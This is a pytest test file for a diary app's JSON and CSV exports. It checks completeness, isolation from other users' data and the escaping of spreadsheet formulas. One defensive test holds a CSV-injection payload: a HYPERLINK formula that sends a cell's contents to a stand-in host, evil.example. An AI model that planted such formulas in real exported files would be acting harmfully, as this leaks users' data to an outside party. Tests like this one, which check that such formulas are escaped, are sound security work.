"""The export: everything of the user's own as one JSON document or a zip of CSV files, and
nothing of anyone else's."""

import csv
import datetime as dt
import io
import json
import zipfile

import pytest

from chat.turn.coach import handle_turn
from diary.exports import export_json, export_zip
from exercise import services as exercise_services
from measurements import services as measurement_services
from nutrition import services as food_services

pytestmark = pytest.mark.django_db

DAY = dt.date(2026, 11, 2)


@pytest.fixture
def two_diaries(alice, bob, catalog):
    for user, food_name, note in ((alice, "Alice's granola", "hills"), (bob, "Bob's stew", "bob")):
        food = food_services.food_create_custom(user=user, name=food_name, calories=420)
        food_services.food_entry_create(
            user=user, food=food, quantity=1, meal_type="breakfast", entry_date=DAY
        )
        exercise_services.exercise_entry_create(
            user=user, exercise=catalog["running"], duration_minutes=25, entry_date=DAY, notes=note
        )
        measurement_services.checkin_upsert(user=user, entry_date=DAY, weight=80)
        food_services.goal_set(user=user, calories=2000 if user == alice else 3000)
    handle_turn(alice, "2 eggs for breakfast")
    handle_turn(bob, "a banana, my secret snack")
    return alice, bob


def test_the_json_export_holds_every_section_of_the_users_own(two_diaries):
    alice, _bob = two_diaries

    data = json.loads(export_json(user=alice))

    assert data["format"] == "sparky-export"
    assert [e["food_name"] for e in data["food_entries"]] == ["Alice's granola", "Egg"]
    granola = data["food_entries"][0]
    assert (granola["meal_type"], granola["quantity"], granola["calories"]) == (
        "breakfast",
        "1",
        "420",
    )
    assert [f["name"] for f in data["custom_foods"]] == ["Alice's granola"]
    assert [(e["exercise_name"], e["duration_minutes"]) for e in data["exercise_entries"]] == [
        ("Running, 6 mph (10 min/mile)", 25)
    ]
    assert data["checkins"][0]["weight"] == "80" and data["checkins"][0]["weight_unit"] == "kg"
    assert data["goals"][0]["calories"] == "2000"
    assert data["preferences"][0]["default_weight_unit"] == "kg"
    said = [m["content"] for m in data["chat_history"] if m["message_type"] == "user"]
    assert said == ["2 eggs for breakfast"]


def test_another_users_data_never_appears_in_an_export(two_diaries):
    alice, _bob = two_diaries

    text = export_json(user=alice).decode()
    with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:
        text += "".join(archive.read(name).decode() for name in archive.namelist())

    for bobs in ("Bob's stew", "bob@example.com", "secret snack", '"bob"'):
        assert bobs not in text
    # Bob's goal of 3000 kcal, looked for as a goal (the digits alone may stand in an id or a time)
    goals = json.loads(export_json(user=alice))["goals"]
    assert [float(g["calories"]) for g in goals] == [2000]


def test_the_csv_export_is_a_zip_of_one_file_per_section(two_diaries):
    alice, _bob = two_diaries

    with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:
        names = set(archive.namelist())
        entries = list(csv.DictReader(io.StringIO(archive.read("food_entries.csv").decode())))
        goals = list(csv.DictReader(io.StringIO(archive.read("goals.csv").decode())))

    assert names == {
        "food_entries.csv",
        "custom_foods.csv",
        "custom_exercises.csv",
        "exercise_entries.csv",
        "checkins.csv",
        "custom_measurements.csv",
        "goals.csv",
        "water.csv",
        "preferences.csv",
        "chat_history.csv",
    }
    assert [(e["entry_date"], e["food_name"], e["calories"]) for e in entries][0] == (
        "2026-11-02",
        "Alice's granola",
        "420",
    )
    assert goals[0]["calories"] == "2000" and goals[0]["protein"] == ""


def test_an_empty_account_exports_empty_sections(alice):
    data = json.loads(export_json(user=alice))

    assert data["food_entries"] == [] and data["chat_history"] == []
    with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:
        assert archive.read("food_entries.csv") == b""


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(alice, catalog, bob):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    food = food_services.food_create_custom(user=alice, name=formula, calories=100)
    food_services.food_entry_create(
        user=alice, food=food, quantity=1, meal_type="lunch", entry_date=DAY
    )
    exercise_services.exercise_entry_create(
        user=alice, exercise=catalog["running"], duration_minutes=20, entry_date=DAY, notes="+cmd"
    )
    measurement_services.custom_measurement_log(
        user=alice, name="Balance", value="-3.5", entry_date=DAY
    )
    handle_turn(alice, "@coach -2 kg this month, is that fine?")

    with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:

        def rows(name):
            return list(csv.DictReader(io.StringIO(archive.read(name).decode())))

        foods, entries = rows("custom_foods.csv"), rows("exercise_entries.csv")
        values, chat = rows("custom_measurements.csv"), rows("chat_history.csv")

    assert foods[0]["name"] == "'" + formula
    assert entries[0]["notes"] == "'+cmd"
    assert values[0]["value"] == "-3.5"  # a number stays a number
    said = [m["content"] for m in chat if m["message_type"] == "user"]
    assert said == ["'@coach -2 kg this month, is that fine?"]
    # the JSON keeps the text exactly, and it is what an import reads back
    data = json.loads(export_json(user=alice))
    assert data["custom_foods"][0]["name"] == formula
    assert data["custom_measurements"][0]["value"] == "-3.5"


def test_an_empty_custom_exercises_file_still_has_its_header(alice):
    with zipfile.ZipFile(io.BytesIO(export_zip(user=alice))) as archive:
        text = archive.read("custom_exercises.csv").decode()

    assert text.splitlines() == [
        "id,name,category,calories_per_hour,met,default_duration_minutes,description"
    ]
